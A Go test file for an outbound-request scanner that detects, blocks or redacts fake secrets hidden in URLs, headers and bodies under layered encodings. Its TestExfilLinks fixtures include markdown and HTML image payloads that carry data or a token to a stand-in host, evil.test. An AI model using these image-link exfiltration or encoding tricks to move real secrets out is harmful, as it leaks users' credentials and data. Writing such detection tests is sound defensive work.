package scanner

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"
)

// testScanner shares one compiled rule set across tests.
func testScanner(t testing.TB) *Scanner {
	t.Helper()
	rs, err := DefaultRules()
	if err != nil {
		t.Fatal(err)
	}
	return &Scanner{Rules: rs, Key: bytes.Repeat([]byte{7}, 32)}
}

// MustFake returns a fake credential of kind.
func MustFake(tb testing.TB, kind string) string {
	tb.Helper()
	v, err := FakeSecret(kind)
	if err != nil {
		tb.Fatal(err)
	}
	return v
}

func mustURL(tb testing.TB, s string) *url.URL {
	tb.Helper()
	u, err := url.Parse(s)
	if err != nil {
		tb.Fatal(err)
	}
	return u
}

func compress(tb testing.TB, enc string, b []byte) []byte {
	tb.Helper()
	var buf bytes.Buffer
	var w io.WriteCloser
	switch enc {
	case "gzip":
		w = gzip.NewWriter(&buf)
	case "br":
		w = brotli.NewWriter(&buf)
	case "zstd":
		zw, err := zstd.NewWriter(&buf)
		if err != nil {
			tb.Fatal(err)
		}
		w = zw
	default:
		out, err := encode(enc, b)
		if err != nil {
			tb.Fatal(err)
		}
		return out
	}
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// noSecret fails when any text holds the secret.
func noSecret(t *testing.T, secret string, texts ...string) {
	t.Helper()
	for _, s := range texts {
		if strings.Contains(s, secret) || secret[4:] != "" && strings.Contains(s, secret[4:]) {
			t.Fatalf("output holds the secret (%d chars)", len(secret))
		}
	}
}

func dump(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "\n  %s %s where=%s decoding=%q action=%s snippet=%q", f.Kind, f.Rule, f.Where, f.Decoding, f.Action, f.Snippet)
	}
	return b.String()
}

func TestScanWhere(t *testing.T) {
	s := testScanner(t)
	tok := MustFake(t, "github-pat")
	b64 := base64.StdEncoding.EncodeToString([]byte("token=" + tok))
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	fw, _ := mw.CreateFormFile("upload", "notes.txt")
	fw.Write([]byte("my token is " + tok + "\n"))
	mw.WriteField("title", "hello")
	mw.Close()
	type want struct{ rule, where, decoding string }
	for _, tc := range []struct {
		name   string
		url    string
		header http.Header
		body   []byte
		want   want
	}{
		{name: "query", url: "https://api.example.test/v1/x?q=" + tok, want: want{"github-pat", "url", ""}},
		{name: "path percent", url: "https://api.example.test/v1/" + percentEncode("t="+tok), want: want{"github-pat", "url", ""}},
		{name: "query base64", url: "https://api.example.test/v1/x?d=" + url.QueryEscape(b64), want: want{"github-pat", "url", "base64"}},
		{name: "header", header: http.Header{"X-Note": {"t " + tok}}, want: want{"github-pat", "header:X-Note", ""}},
		{name: "json", header: http.Header{"Content-Type": {"application/json"}},
			body: []byte(`{"messages":[{"a":1},{"b":2},{"c":3},{"role":"user","content":"here: ` + tok + `"}]}`),
			want: want{"github-pat", "json:$.messages[3].content", ""}},
		{name: "json escaped key", header: http.Header{"Content-Type": {"application/json"}},
			body: []byte(`{"a b":["x","` + tok + `"]}`), want: want{"github-pat", `json:$["a b"][1]`, ""}},
		{name: "gzip json", header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}},
			body: compress(t, "gzip", []byte(`{"c":"`+tok+`"}`)), want: want{"github-pat", "json:$.c", "gzip"}},
		{name: "br", header: http.Header{"Content-Encoding": {"br"}}, body: compress(t, "br", []byte("x "+tok)), want: want{"github-pat", "body", "br"}},
		{name: "zstd", header: http.Header{"Content-Encoding": {"zstd"}}, body: compress(t, "zstd", []byte("x "+tok)), want: want{"github-pat", "body", "zstd"}},
		{name: "deflate", header: http.Header{"Content-Encoding": {"deflate"}}, body: compress(t, "deflate", []byte("x "+tok)), want: want{"github-pat", "body", "deflate"}},
		{name: "gzip base64 in json", header: http.Header{"Content-Type": {"application/json"}, "Content-Encoding": {"gzip"}},
			body: compress(t, "gzip", []byte(`{"c":"`+b64+`"}`)), want: want{"github-pat", "json:$.c", "gzip > base64"}},
		{name: "hex", body: []byte("x=" + fmt.Sprintf("%x", "token="+tok)), want: want{"github-pat", "body", "hex"}},
		{name: "base64url", body: []byte("x=" + base64.RawURLEncoding.EncodeToString([]byte("token="+tok+"??>"))), want: want{"github-pat", "body", "base64url"}},
		{name: "double base64", body: []byte("x=" + base64.StdEncoding.EncodeToString([]byte(b64))), want: want{"github-pat", "body", "base64 > base64"}},
		{name: "form", header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
			body: []byte("a=1&comment=" + url.QueryEscape("see "+tok)), want: want{"github-pat", "form:comment", ""}},
		{name: "multipart", header: http.Header{"Content-Type": {mw.FormDataContentType()}}, body: mp.Bytes(),
			want: want{"github-pat", "multipart:upload", ""}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := &Request{Host: "api.example.test", URL: mustURL(t, "https://api.example.test/v1/x"), Header: tc.header}
			if tc.url != "" {
				req.URL = mustURL(t, tc.url)
			}
			if req.Header == nil {
				req.Header = http.Header{}
			}
			if tc.body != nil {
				req.Body = bytes.NewReader(tc.body)
			}
			res, err := s.Scan(context.Background(), req)
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, f := range res.Findings {
				if f.Rule == tc.want.rule && f.Where == tc.want.where && f.Decoding == tc.want.decoding {
					found = true
				}
				if f.Fingerprint == "" {
					t.Errorf("finding without fingerprint")
				}
				noSecret(t, tok, f.Snippet, f.Where, fmt.Sprintf("%v %+v %#v %s %q %x", f, f, f, f.secret, f.secret, f.secret))
				b, _ := json.Marshal(f)
				noSecret(t, tok, string(b))
			}
			if !found {
				t.Fatalf("want %+v among:%s", tc.want, dump(res.Findings))
			}
			if res.Verdict != Block || res.Reason != "secret-detected" {
				t.Errorf("verdict %v %q, want block secret-detected", res.Verdict, res.Reason)
			}
			noSecret(t, tok, res.Path)
		})
	}
}

func TestSplitAcrossWindows(t *testing.T) {
	s := testScanner(t)
	tok := MustFake(t, "github-pat")
	for _, at := range []int{64<<10 - 20, 2*(56<<10) - 10, windowSide - 3, 3 << 20} {
		body := bytes.Repeat([]byte("lorem ipsum dolor sit amet\n"), (4<<20)/27)
		copy(body[at:], " "+tok+" ")
		res, err := s.Scan(context.Background(), &Request{Header: http.Header{}, Body: bytes.NewReader(body)})
		if err != nil {
			t.Fatal(err)
		}
		if res.Verdict != Block {
			t.Errorf("secret at %d across a window cut not found:%s", at, dump(res.Findings))
		}
	}
}

func TestOversizeAndBomb(t *testing.T) {
	s := testScanner(t)
	s.MaxBodyBytes = 64 << 10
	big := bytes.Repeat([]byte("a"), 100<<10)
	bomb := compress(t, "gzip", bytes.Repeat([]byte{0}, 50<<20))
	for _, tc := range []struct {
		name    string
		forward bool
		header  http.Header
		body    []byte
		rule    string
		verdict Action
	}{
		{"oversize blocks", false, http.Header{}, big, RuleOversize, Block},
		{"oversize forwarded", true, http.Header{}, big, RuleOversize, Alert},
		{"bomb", false, http.Header{"Content-Encoding": {"gzip"}}, bomb, RuleDecompressed, Block},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s.Policy.ForwardOversize = tc.forward
			res, err := s.Scan(context.Background(), &Request{Header: tc.header, Body: bytes.NewReader(tc.body)})
			if err != nil {
				t.Fatal(err)
			}
			if res.Verdict != tc.verdict || len(res.Findings) != 1 || res.Findings[0].Rule != tc.rule {
				t.Fatalf("verdict %v findings:%s", res.Verdict, dump(res.Findings))
			}
			if tc.verdict == Block && res.Reason != "body-too-large" {
				t.Errorf("reason %q", res.Reason)
			}
			if tc.forward {
				got, _ := io.ReadAll(res.Body)
				if !bytes.Equal(got, tc.body) {
					t.Errorf("forwarded %d bytes, want the whole %d", len(got), len(tc.body))
				}
			}
		})
	}
}

// reencoded checks that the JSON body's field c, decoded, starts with the
// masked token: its encoded layer was re-encoded around the mask.
func reencoded(decode func(string) ([]byte, error)) func(*testing.T, []byte) {
	return func(t *testing.T, b []byte) {
		var v map[string]string
		json.Unmarshal(b, &v)
		d, err := decode(v["c"])
		if err != nil || !strings.HasPrefix(string(d), "token=****") {
			t.Errorf("encoded layer not re-encoded with the mask: %v", err)
		}
	}
}

func TestRedact(t *testing.T) {
	s := testScanner(t)
	s.Policy.Actions = map[string]Action{"github-pat": Redact}
	tok := MustFake(t, "github-pat")
	b64 := base64.StdEncoding.EncodeToString([]byte("token=" + tok))
	b32 := base32.StdEncoding.EncodeToString([]byte("token=" + tok))
	for _, tc := range []struct {
		name   string
		url    string
		header http.Header
		body   string
		check  func(t *testing.T, body []byte)
	}{
		{name: "json", header: http.Header{"Content-Type": {"application/json"}}, body: `{"c":"x ` + tok + ` y","n":1}`,
			check: func(t *testing.T, b []byte) {
				var v map[string]any
				if err := json.Unmarshal(b, &v); err != nil || !strings.Contains(v["c"].(string), "****") {
					t.Errorf("redacted body not valid JSON with a mask: %v", err)
				}
			}},
		{name: "base64 in json", header: http.Header{"Content-Type": {"application/json"}}, body: `{"c":"` + b64 + `"}`,
			check: reencoded(base64.StdEncoding.DecodeString)},
		{name: "base32 in json", header: http.Header{"Content-Type": {"application/json"}}, body: `{"c":"` + b32 + `"}`,
			check: reencoded(base32.StdEncoding.DecodeString)},
		{name: "gzip", header: http.Header{"Content-Encoding": {"gzip"}}, body: "x " + tok,
			check: func(t *testing.T, b []byte) {
				zr, err := gzip.NewReader(bytes.NewReader(b))
				if err != nil {
					t.Fatal(err)
				}
				d, _ := io.ReadAll(zr)
				if string(d) != "x "+strings.Repeat("*", len(tok)) {
					t.Errorf("gzip body after redaction: %d bytes", len(d))
				}
			}},
		{name: "url and header", url: "https://api.example.test/v1/x?q=" + tok, header: http.Header{"X-Note": {tok}}},
		{name: "wrapped base64", header: http.Header{"Content-Type": {"text/plain"}}, body: wrapLines(b64, 16, "\n"),
			check: func(t *testing.T, b []byte) {
				lines := strings.Split(string(b), "\n")
				d, err := base64.StdEncoding.DecodeString(strings.Join(lines, ""))
				if len(lines) != len(strings.Split(wrapLines(b64, 16, "\n"), "\n")) || len(lines[0]) != 16 || err != nil || !strings.HasPrefix(string(d), "token=****") {
					t.Errorf("wrapped run not re-encoded in its lines with the mask: %q (%v)", b, err)
				}
			}},
		{name: "reversed", header: http.Header{"Content-Type": {"text/plain"}}, body: "x " + reversed(tok) + " y",
			check: turnedBack(reversed(tok))},
		{name: "rot13", header: http.Header{"Content-Type": {"text/plain"}}, body: "x " + rot(tok, 13) + " y",
			check: turnedBack(rot(tok, 13))},
		{name: "rot3", header: http.Header{"Content-Type": {"text/plain"}}, body: "x " + rot(tok, 3) + " y",
			check: turnedBack(rot(tok, 3))},
		{name: "base64 backwards", header: http.Header{"Content-Type": {"text/plain"}}, body: "x " + reversed(b64) + " y",
			check: func(t *testing.T, b []byte) {
				f := strings.Fields(string(b))
				d, err := base64.StdEncoding.DecodeString(reversed(f[1]))
				if len(f) != 3 || err != nil || !strings.HasPrefix(string(d), "token=****") {
					t.Errorf("backwards run not re-encoded backwards with the mask: %q (%v)", b, err)
				}
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			u := "https://api.example.test/v1/x"
			if tc.url != "" {
				u = tc.url
			}
			body := []byte(tc.body)
			if tc.header.Get("Content-Encoding") == "gzip" {
				body = compress(t, "gzip", body)
			}
			res, err := s.Scan(context.Background(), &Request{URL: mustURL(t, u), Header: tc.header, Body: bytes.NewReader(body)})
			if err != nil {
				t.Fatal(err)
			}
			if res.Verdict != Redact {
				t.Fatalf("verdict %v:%s", res.Verdict, dump(res.Findings))
			}
			out, _ := io.ReadAll(res.Body)
			if int64(len(out)) != res.BodyLen {
				t.Errorf("BodyLen %d, body %d bytes", res.BodyLen, len(out))
			}
			hs := fmt.Sprint(res.Header)
			us := ""
			if res.URL != nil {
				us = res.URL.String()
			}
			noSecret(t, tok, string(out), hs, us)
			if tc.url != "" && (res.URL == nil || !strings.Contains(res.URL.RawQuery, "****")) {
				t.Errorf("URL not redacted")
			}
			if tc.check != nil {
				tc.check(t, out)
			}
		})
	}
}

// One run that reads as a token in ROT13 one way and as another token
// backwards the other is redacted once, never sliced twice: the reading
// left over is still found by the check, and the request is blocked.
func TestRedactOverlappingRuns(t *testing.T) {
	s := testScanner(t)
	s.Policy.Actions = map[string]Action{"github-pat": Redact}
	a, b := MustFake(t, "github-pat"), MustFake(t, "github-pat")
	body := "x " + rot(a, 13) + "-" + reversed(b) + " y"
	res, err := s.Scan(context.Background(), &Request{URL: mustURL(t, "https://api.example.test/v1/x"),
		Header: http.Header{"Content-Type": {"text/plain"}}, Body: strings.NewReader(body)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Block {
		t.Fatalf("verdict %v, want block:%s", res.Verdict, dump(res.Findings))
	}
}

// turnedBack checks that a token written backwards or in ROT13 is masked
// in place.
func turnedBack(turned string) func(*testing.T, []byte) {
	return func(t *testing.T, b []byte) {
		if strings.Contains(string(b), turned) || !strings.Contains(string(b), "****") {
			t.Errorf("body after redaction: the turned token is there, or no mask: %d bytes", len(b))
		}
	}
}

// A secret that cannot be redacted in place (split by a line break inside
// base64) is blocked, never forwarded.
func TestRedactFailsClosed(t *testing.T) {
	s := testScanner(t)
	s.Policy.Actions = map[string]Action{"secret": Redact}
	tok := MustFake(t, "github-pat")
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	h := map[string][]string{"Content-Disposition": {`form-data; name="f"`}, "Content-Transfer-Encoding": {"base64"}}
	pw, _ := mw.CreatePart(h)
	enc := base64.StdEncoding.EncodeToString([]byte("token=" + tok))
	pw.Write([]byte(enc[:20] + "\r\n" + enc[20:]))
	mw.Close()
	res, err := s.Scan(context.Background(), &Request{Header: http.Header{"Content-Type": {mw.FormDataContentType()}}, Body: &mp})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Block {
		t.Fatalf("verdict %v, want block:%s", res.Verdict, dump(res.Findings))
	}
}

func TestBindings(t *testing.T) {
	s := testScanner(t)
	tok := MustFake(t, "github-pat")
	for _, tc := range []struct {
		name   string
		host   string
		header http.Header
		body   string
		block  bool
	}{
		{"own host", "api.github.com", http.Header{"Authorization": {"Bearer " + tok}}, "", false},
		{"git host basic", "github.com", http.Header{"Authorization": {"token " + tok}}, "", false},
		{"other host", "api.example.test", http.Header{"Authorization": {"Bearer " + tok}}, "", true},
		{"other header", "api.github.com", http.Header{"X-Leak": {tok}}, "", true},
		{"body to own host", "api.github.com", http.Header{"Authorization": {"Bearer " + tok}}, `{"x":"` + tok + `"}`, true},
		{"encoded in header", "api.github.com", http.Header{"Authorization": {"Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+tok))}}, "", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req := &Request{Host: tc.host, URL: mustURL(t, "https://"+tc.host+"/user"), Header: tc.header}
			if tc.body != "" {
				req.Body = strings.NewReader(tc.body)
			}
			res, err := s.Scan(context.Background(), req)
			if err != nil {
				t.Fatal(err)
			}
			if (res.Verdict == Block) != tc.block {
				t.Fatalf("verdict %v, want block=%v:%s", res.Verdict, tc.block, dump(res.Findings))
			}
		})
	}
}

func TestCanaries(t *testing.T) {
	dir := t.TempDir()
	key, err := LoadOrCreateKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	store := &CanaryStore{Dir: dir, Key: key}
	cs, err := store.Issue("acme", "run-1")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(filepath.Join(dir, CanaryFile))
	for _, c := range cs {
		noSecret(t, c.Value, string(raw))
	}
	s := testScanner(t)
	s.Key, s.Canaries = key, store
	for _, c := range cs {
		for _, tc := range []struct {
			name string
			req  *Request
		}{
			{"body", &Request{Host: "api.example.test", Header: http.Header{}, Body: strings.NewReader("v=" + c.Value)}},
			{"base64 body", &Request{Host: "api.example.test", Header: http.Header{"Content-Type": {"application/json"}},
				Body: strings.NewReader(`{"x":"` + base64.StdEncoding.EncodeToString([]byte(c.Value+"\n")) + `"}`)}},
			{"bound header", &Request{Host: "api.github.com", Header: http.Header{"Authorization": {"Bearer " + c.Value}}}},
		} {
			t.Run(c.Kind+"/"+tc.name, func(t *testing.T) {
				res, err := s.Scan(context.Background(), tc.req)
				if err != nil {
					t.Fatal(err)
				}
				if res.Verdict != Block || res.Reason != "canary-detected" {
					t.Fatalf("verdict %v %q:%s", res.Verdict, res.Reason, dump(res.Findings))
				}
			})
		}
	}
	// A stranger's value of the same shape is no canary.
	res, err := s.Scan(context.Background(), &Request{Header: http.Header{}, Body: strings.NewReader("v=sk-" + randomString(base62, 48))})
	if err != nil || res.Reason == "canary-detected" {
		t.Fatalf("non-canary reported as one: %v%s", err, dump(res.Findings))
	}
	for _, f := range res.Findings {
		if f.Kind == KindCanary {
			t.Fatalf("non-canary reported as one:%s", dump(res.Findings))
		}
	}
}

func TestExfilLinks(t *testing.T) {
	s := testScanner(t)
	allowed := func(h string) bool { return h == "api.example.test" || strings.HasSuffix(h, ".allowed.test") }
	tok := MustFake(t, "github-pat")
	for _, tc := range []struct {
		name, body string
		rule       string // "" for none
		action     Action
	}{
		{"markdown image with query", `{"body":"nice ![x](https://evil.test/p.png?d=hello)"}`, RuleExfilImage, Block},
		{"markdown image long path", `{"body":"![](https://evil.test/` + strings.Repeat("Zm9vYmFy", 9) + `.png)"}`, RuleExfilImage, Block},
		{"html img", `{"body":"<img src='https://evil.test/a.gif?x=1'>"}`, RuleExfilImage, Block},
		{"markdown link", `{"body":"see [docs](https://evil.test/a?ref=abc)"}`, RuleExfilLink, Alert},
		{"bare url", `{"body":"go to https://evil.test/q?session=abc now"}`, RuleExfilLink, Alert},
		{"image to allowed host", `{"body":"![x](https://cdn.allowed.test/p.png?d=1)"}`, "", Pass},
		{"image without data", `{"body":"![logo](https://evil.test/logo.png)"}`, "", Pass},
		{"secret in image", `{"body":"![x](https://evil.test/` + tok + `.png)"}`, RuleExfilImage, Block},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := s.Scan(context.Background(), &Request{Host: "api.example.test", Allowed: allowed,
				Header: http.Header{"Content-Type": {"application/json"}}, Body: strings.NewReader(tc.body)})
			if err != nil {
				t.Fatal(err)
			}
			var got *Finding
			for i, f := range res.Findings {
				if f.Kind == KindExfilLink {
					got = &res.Findings[i]
				}
			}
			switch {
			case tc.rule == "" && got != nil:
				t.Fatalf("unexpected:%s", dump(res.Findings))
			case tc.rule != "" && (got == nil || got.Rule != tc.rule || got.Action != tc.action || got.Host != "evil.test"):
				t.Fatalf("want %s/%v:%s", tc.rule, tc.action, dump(res.Findings))
			}
		})
	}
}

func TestURLEntropy(t *testing.T) {
	s := testScanner(t)
	res, err := s.Scan(context.Background(), &Request{URL: mustURL(t, "https://api.example.test/v1/x?page=2&d="+randomString(base62, 40)), Header: http.Header{}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 1 || res.Findings[0].Rule != RuleURLEntropy || res.Verdict != Alert {
		t.Fatalf("findings:%s", dump(res.Findings))
	}
}

func TestTimeoutFailsClosed(t *testing.T) {
	s := testScanner(t)
	s.Timeout = time.Nanosecond
	_, err := s.Scan(context.Background(), &Request{Header: http.Header{}, Body: strings.NewReader(strings.Repeat("token=abc ", 100000))})
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
}

func TestCorruptBodyFails(t *testing.T) {
	s := testScanner(t)
	_, err := s.Scan(context.Background(), &Request{Header: http.Header{"Content-Encoding": {"gzip"}}, Body: strings.NewReader("not gzip")})
	if err == nil {
		t.Fatal("a body that cannot be decoded was passed")
	}
}

func TestShippedCorpus(t *testing.T) {
	rep, err := RunCorpus(context.Background(), testScanner(t), "testdata/corpus")
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Failures) > 0 || rep.Files < 20 {
		t.Fatalf("%d files, failures:\n%s", rep.Files, strings.Join(rep.Failures, "\n"))
	}
}

// The benign corpus must not even alert when sent as request bodies to an
// allowed host: package-manager and agent traffic passes untouched.
func TestBenignRequests(t *testing.T) {
	s := testScanner(t)
	files, _ := filepath.Glob("testdata/corpus/benign/*")
	for _, f := range files {
		b, _ := os.ReadFile(f)
		res, err := s.Scan(context.Background(), &Request{Host: "api.example.test", URL: mustURL(t, "https://api.example.test/upload"),
			Header: http.Header{}, Body: bytes.NewReader(b), Allowed: func(h string) bool { return strings.HasSuffix(h, ".example.test") }})
		if err != nil {
			t.Fatal(err)
		}
		if res.Verdict >= Redact {
			t.Errorf("%s: %v:%s", f, res.Verdict, dump(res.Findings))
		}
	}
}

func TestKey(t *testing.T) {
	dir := t.TempDir()
	k1, err := LoadOrCreateKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	k2, _ := LoadOrCreateKey(dir)
	st, _ := os.Stat(filepath.Join(dir, KeyFile))
	if !bytes.Equal(k1, k2) || st.Mode().Perm() != 0o600 {
		t.Fatalf("key not stable or mode %v", st.Mode().Perm())
	}
	os.Chmod(filepath.Join(dir, KeyFile), 0o644)
	if _, err := LoadOrCreateKey(dir); err == nil {
		t.Fatal("a world-readable key was accepted")
	}
	if Fingerprint(k1, "a") == Fingerprint(bytes.Repeat([]byte{1}, 32), "a") {
		t.Fatal("fingerprint does not depend on the key")
	}
}

func TestPacks(t *testing.T) {
	for _, tc := range []struct {
		name, pack string
		input      string
		rule       string // rule expected to fire; "" none
		err        string
	}{
		{name: "new rule", pack: "[[rules]]\nid = \"acme-token\"\nregex = '''acme_[a-z0-9]{24}'''\nkeywords = [\"acme_\"]\n",
			input: "x acme_" + strings.Repeat("k3", 12), rule: "acme-token"},
		{name: "disabled", pack: "[extend]\ndisabledRules = [\"github-pat\"]\n", input: "ghp", rule: ""},
		{name: "targeted allowlist", pack: "[[allowlists]]\ntargetRules = [\"github-pat\"]\nregexes = ['''.''']\n", input: "ghp", rule: ""},
		{name: "bad toml", pack: "[[rules]\n", err: "pack test.toml"},
		{name: "bad action", pack: "[sluice.actions]\ngithub-pat = \"maybe\"\n", err: "not block, redact or alert"},
		{name: "unknown targeted", pack: "[[allowlists]]\ntargetRules = [\"nope\"]\nregexes = ['''.''']\n", err: "unknown rule \"nope\""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rs, err := LoadRules(Pack{Name: "test.toml", Data: []byte(tc.pack)})
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("err = %v, want %q", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			in := tc.input
			if in == "ghp" {
				in = "x " + MustFake(t, "github-pat")
			}
			s := &Scanner{Rules: rs}
			fs, err := s.ScanText(context.Background(), "t.txt", []byte(in))
			if err != nil {
				t.Fatal(err)
			}
			if (tc.rule == "") != (len(fs) == 0) || tc.rule != "" && fs[0].Rule != tc.rule {
				t.Fatalf("want %q:%s", tc.rule, dump(fs))
			}
		})
	}
}

func FuzzBodySegments(f *testing.F) {
	f.Add([]byte(`{"a":["b",{"c":"ZGF0YQ=="}]}`), "application/json")
	f.Add([]byte("a=1&b=%41"), "application/x-www-form-urlencoded")
	f.Add([]byte("--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhi\r\n--x--\r\n"), "multipart/form-data; boundary=x")
	f.Fuzz(func(t *testing.T, b []byte, ct string) {
		segs, _ := (&Scanner{}).peel(bodySegments(b, ct, nil, nil), nil)
		for _, g := range segs {
			if g.depth > DefaultDecodeDepth {
				t.Fatalf("depth %d", g.depth)
			}
		}
		_ = redactText(string(b), []string{"abc"}, 2)
	})
}

func TestKindReason(t *testing.T) {
	for kind, want := range map[string]string{
		KindCanary: ReasonCanary, KindPhantom: ReasonPhantom, KindSecret: ReasonSecret,
		KindExfilLink: ReasonExfilLink, KindOversize: ReasonOversize, "env-dump": ReasonSecret,
	} {
		if got := KindReason(kind); got != want {
			t.Errorf("KindReason(%q) = %q, want %q", kind, got, want)
		}
	}
}

// TestOversizeHeadIsScanned: with oversize bodies forwarded, the part that was
// read is still scanned: a secret in it blocks; only the tail goes unchecked.
func TestOversizeHeadIsScanned(t *testing.T) {
	s := testScanner(t)
	s.MaxBodyBytes = 4 << 10
	s.Policy.ForwardOversize = true
	pat := MustFake(t, "github-pat")
	body := "note=" + pat + "&pad=" + strings.Repeat("a", 8<<10)
	res, err := s.Scan(context.Background(), &Request{Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
		Body: strings.NewReader(body)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Block {
		t.Fatalf("verdict %v, want block for a secret in the scanned head:%s", res.Verdict, dump(res.Findings))
	}
	// A compressed head is decoded as far as it goes: the secret at its start
	// is found although the compressed stream is cut at the limit. zstd
	// decodes whole blocks (up to 128 KiB), so its case has a larger limit.
	for _, enc := range []string{"gzip", "deflate", "br", "zstd"} {
		s := testScanner(t)
		s.MaxBodyBytes = 4 << 10
		if enc == "zstd" {
			s.MaxBodyBytes = 256 << 10
		}
		s.Policy.ForwardOversize = true
		pad := make([]byte, 3*s.MaxBodyBytes)
		rand.Read(pad)
		z, err := encode(enc, []byte("note="+pat+"&pad="+hex.EncodeToString(pad)))
		if err != nil {
			t.Fatal(err)
		}
		if len(z) <= int(s.MaxBodyBytes) {
			t.Fatalf("%s: %d compressed bytes fit the limit; the case needs more", enc, len(z))
		}
		res, err := s.Scan(context.Background(), &Request{Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"},
			"Content-Encoding": {enc}}, Body: bytes.NewReader(z)})
		if err != nil {
			t.Fatal(err)
		}
		if !slices.ContainsFunc(res.Findings, func(f Finding) bool { return f.Rule == "github-pat" }) || res.Verdict != Block {
			t.Errorf("%s: the secret in the compressed head was not found (%v):%s", enc, res.Verdict, dump(res.Findings))
		}
	}
	// A clean oversize body still goes on, with its alert.
	res, err = s.Scan(context.Background(), &Request{Body: strings.NewReader(strings.Repeat("a", 8<<10))})
	if err != nil {
		t.Fatal(err)
	}
	if res.Verdict != Alert {
		t.Fatalf("clean oversize body: %v, want alert", res.Verdict)
	}
}

// A canary issued by another process (another store on the same directory, as `sluice
// canary issue` is) is recognised by the next scan, while other scans run meanwhile.
func TestCanaryIssuedElsewhereIsSeenByTheNextScan(t *testing.T) {
	dir := t.TempDir()
	key, err := LoadOrCreateKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	s := testScanner(t)
	s.Key, s.Canaries = key, &CanaryStore{Dir: dir, Key: key}
	scan := func(body string) *Result {
		res, err := s.Scan(context.Background(), &Request{Host: "api.example.test", Header: http.Header{}, Body: strings.NewReader(body)})
		if err != nil {
			t.Error(err)
			return &Result{}
		}
		return res
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() { // scans that race with the issuing and the rereading
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
				scan("v=nothing here")
			}
		}
	}()
	defer func() { close(stop); <-done }()
	for round := range 3 {
		cs, err := (&CanaryStore{Dir: dir, Key: key}).Issue("acme", fmt.Sprintf("run-%d", round))
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range cs {
			if res := scan("v=" + c.Value); res.Reason != "canary-detected" {
				t.Fatalf("round %d: canary %s issued elsewhere not recognised: %q%s", round, c.Kind, res.Reason, dump(res.Findings))
			}
		}
	}
}

// TestBodySizeHint: a body's declared size only sizes the read buffer: a
// size that is short, long, absent or far over the limit reads the same
// bytes and finds the same secret, and a body over the limit stays
// oversize whatever size it declares.
func TestBodySizeHint(t *testing.T) {
	s := testScanner(t)
	s.MaxBodyBytes = 4096
	body := "x=1\ncard " + fakeCard("4", 16) + "\n" + strings.Repeat("plain words ", 100)
	for _, size := range []int64{0, -1, 10, int64(len(body)), int64(len(body)) + 100, 1 << 40} {
		// io.MultiReader hides strings.Reader's Len: only Size sizes the buffer.
		res, err := s.Scan(context.Background(), &Request{Header: http.Header{"Content-Type": {"text/plain"}},
			Body: io.MultiReader(strings.NewReader(body)), Size: size})
		if err != nil {
			t.Fatal(err)
		}
		got, _ := io.ReadAll(res.Body)
		if string(got) != body || res.BodyLen != int64(len(body)) || !hasRule(res.Findings, RulePaymentCard) {
			t.Errorf("size %d: body %d bytes (len %d), findings %v", size, len(got), res.BodyLen, res.Findings)
		}
	}
	big := strings.Repeat("a", 5000)
	for _, size := range []int64{0, 100, 5000, 1 << 40} {
		res, err := s.Scan(context.Background(), &Request{Body: io.MultiReader(strings.NewReader(big)), Size: size})
		if err != nil {
			t.Fatal(err)
		}
		if !hasRule(res.Findings, RuleOversize) {
			t.Errorf("size %d: no oversize finding in %v", size, res.Findings)
		}
	}
}
